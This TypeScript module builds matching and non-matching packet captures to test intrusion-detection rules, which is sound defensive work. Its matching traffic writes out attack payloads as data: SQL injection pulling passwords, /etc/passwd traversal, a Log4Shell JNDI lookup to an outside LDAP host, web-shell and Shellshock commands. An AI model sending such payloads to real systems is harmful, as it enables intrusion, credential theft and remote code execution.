/**
 * Hit and miss traffic of our own rules, made byte by byte. Run as a program it writes rules/<slug>/hit.pcap
 * and miss.pcap; the test compares the files with what is made here.
 */
import { writeFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { type Ends, pcapFile, type Turn, tcpConversation, timed, udp } from './frames.ts'
import { clientHello } from './tls-hello.ts'

export const RULES = fileURLToPath(new URL('../../rules', import.meta.url))

interface Traffic {
  hit: Uint8Array[]
  miss: Uint8Array[]
}

const HOST = '10.20.0.7'
const ASSET = '10.30.0.10'

let port = 40_000
function ends(destPort: number): Ends {
  return { src: HOST, dest: ASSET, srcPort: ++port, destPort }
}

/** A request, whole and alone, and a short answer. */
function web(
  request: string,
  response: string | Buffer = 'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n',
) {
  return tcpConversation(ends(80), [
    { from: 'client', data: request },
    { from: 'server', data: response },
  ])
}

function get(uri: string, headers: readonly string[] = [], host = 'shop.example'): string {
  const lines = [`GET ${uri} HTTP/1.1`, `Host: ${host}`, 'User-Agent: Mozilla/5.0', ...headers]
  return `${lines.join('\r\n')}\r\n\r\n`
}

/** As a scanner names itself. */
function agent(name: string): string {
  return `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${name}\r\n\r\n`
}

function talk(destPort: number, ...turns: Turn[]) {
  return tcpConversation(ends(destPort), turns)
}

/** One question, as a stub resolver asks it. */
function dnsQuery(name: string, type = 16): Uint8Array {
  const labels = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)])
  const head = [0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]
  return udp(ends(53), Buffer.from([...head, ...labels, 0, type >> 8, type & 255, 0, 1]))
}

function modbus(functionCode: number, ...data: number[]): Buffer {
  return Buffer.from([0, 1, 0, 0, 0, 2 + data.length, 1, functionCode, ...data])
}

function poll(request: Buffer) {
  return talk(502, { from: 'client', data: request }, { from: 'server', data: request })
}

/** The two marks of a Windows program, and nothing that could run. */
function program(): Buffer {
  const body = Buffer.alloc(512)
  body.write('MZ')
  body.write('PE\0\0', 0x80)
  return body
}

function download(host: string, body: Buffer) {
  const head = `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${body.length}\r\n\r\n`
  return web(get('/update.bin', [], host), Buffer.concat([Buffer.from(head), body]))
}

/** Encoded names as a tunnel asks them: 20 in a row, each different. */
function longNames(count: number): Uint8Array[] {
  return Array.from({ length: count }, (_, i) => {
    const label = `${i.toString(16).padStart(4, '0')}d3b07384d113edec49eaa6238ad5ff00c157a79031e1c40f85`
    return dnsQuery(`${label.slice(0, 48)}.${label.slice(2, 44)}.t.example`)
  })
}

export const TRAFFIC: Readonly<Record<string, () => Traffic>> = {
  'self-test': () => ({
    hit: [udp(ends(9), `PICKET-SELF-TEST-${'0'.repeat(32)}`)],
    miss: [udp(ends(9), 'a PICKET-SELF-TEST- further on'), udp(ends(9), 'PICKET-SELFTEST-')],
  }),
  'sql-injection-union': () => ({
    hit: web(get('/item?id=-1%27%20UNION%20/**/ALL%20SELECT%20user,password%20FROM%20users--')),
    miss: [
      ...web(get('/news/reunion-of-the-select-committee')),
      ...web(get('/search?q=credit+union')),
    ],
  }),
  'path-traversal-passwd': () => ({
    hit: web(get('/download?file=..%2f..%2f..%2fetc%2fpasswd')),
    miss: [...web(get('/docs/etc/passwd.html')), ...web(get('/download?file=../notes.txt'))],
  }),
  'log4shell-jndi': () => ({
    hit: web(get('/', ['X-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}'])),
    miss: [
      ...web(get('/javadoc/javax/naming/jndi-tutorial.html')),
      ...web(get('/?q=%24%7Bname%7D')),
    ],
  }),
  'web-shell-command': () => ({
    hit: web(get('/uploads/logo.php?cmd=cat%20/etc/hostname%3Bwhoami')),
    miss: [...web(get('/app.php?cmd=list&page=2')), ...web(get('/help?cmd=whoami'))],
  }),
  shellshock: () => ({
    hit: web(get('/cgi-bin/status', ['Referer: () { :; }; echo; /bin/id'])),
    miss: web(get('/lib.js', ['X-Note: function() {return 1}'])),
  }),
  'web-scanner': () => ({
    hit: [
      ...web(agent('sqlmap/1.8.2#stable (https://sqlmap.org)')),
      ...web(agent('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)')),
      ...web(
        agent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
      ),
    ],
    miss: [
      ...web(agent('Mozilla/5.0 (X11; Linux x86_64)')),
      ...web(get('/blog/sqlmap/nikto/nmap')),
    ],
  }),
  'telnet-service': () => ({
    hit: talk(23, { from: 'server', data: Buffer.from('fffd18fffd20fffd23fffd27', 'hex') }),
    miss: [
      ...talk(23, { from: 'server', data: 'login: ' }),
      ...talk(2323, { from: 'server', data: Buffer.from('ff00', 'hex') }),
    ],
  }),
  'ssh-version-1': () => ({
    hit: talk(
      22,
      { from: 'server', data: 'SSH-1.5-Cisco-1.25\n' },
      { from: 'client', data: 'SSH-1.5-OpenSSH_3.9\n' },
    ),
    miss: [
      ...talk(
        22,
        { from: 'server', data: 'SSH-1.99-OpenSSH_4.3\r\n' },
        { from: 'client', data: 'SSH-2.0-PuTTY\r\n' },
      ),
      ...talk(
        22,
        { from: 'server', data: 'SSH-2.0-OpenSSH_9.2p1\r\n' },
        { from: 'client', data: 'SSH-2.0-OpenSSH_1.0\r\n' },
      ),
    ],
  }),
  'tls-onion-name': () => ({
    hit: talk(443, { from: 'client', data: clientHello('expyuzz4wqqyqhjn.onion') }),
    miss: talk(443, { from: 'client', data: clientHello('www.onion.example') }),
  }),
  'dns-tunnel': () => ({
    hit: [
      dnsQuery('dnscat.7a3f0153c10000000000'),
      dnsQuery('vaaaakardli.t.example', 10),
      ...longNames(20),
    ],
    miss: [
      dnsQuery('www.example.com', 1),
      dnsQuery('vaaaaka.example', 1),
      dnsQuery('dnscat.example', 1),
      ...longNames(10),
    ],
  }),
  'modbus-restart-communications': () => ({
    hit: poll(modbus(8, 0, 1, 0, 0)),
    miss: [...poll(modbus(8, 0, 0, 0xa5, 0x37)), ...poll(modbus(3, 0, 8, 0, 1))],
  }),
  'basic-auth-clear-text': () => ({
    hit: web(get('/admin', ['Authorization: Basic YWRtaW46YWRtaW4='])),
    miss: [
      ...web(get('/admin', ['Authorization: Digest username="admin"'])),
      ...web(get('/docs?q=Authorization:%20Basic%20')),
    ],
  }),
  'executable-from-address': () => ({
    hit: download('10.30.0.10', program()),
    miss: [
      ...download('updates.example', program()),
      ...download('10.30.0.10', Buffer.from('MZ, he wrote')),
    ],
  }),
}

/** Both captures of one rule folder. Ports start anew, so that a folder's bytes depend on nothing else. */
export function captures(slug: string): { hit: Buffer; miss: Buffer } {
  port = 40_000
  const { hit, miss } = TRAFFIC[slug]?.() ?? { hit: [], miss: [] }
  return { hit: pcapFile(timed(hit)), miss: pcapFile(timed(miss)) }
}

if (process.argv[1] === fileURLToPath(import.meta.url))
  for (const slug of Object.keys(TRAFFIC)) {
    const { hit, miss } = captures(slug)
    writeFileSync(`${RULES}/${slug}/hit.pcap`, hit)
    writeFileSync(`${RULES}/${slug}/miss.pcap`, miss)
  }
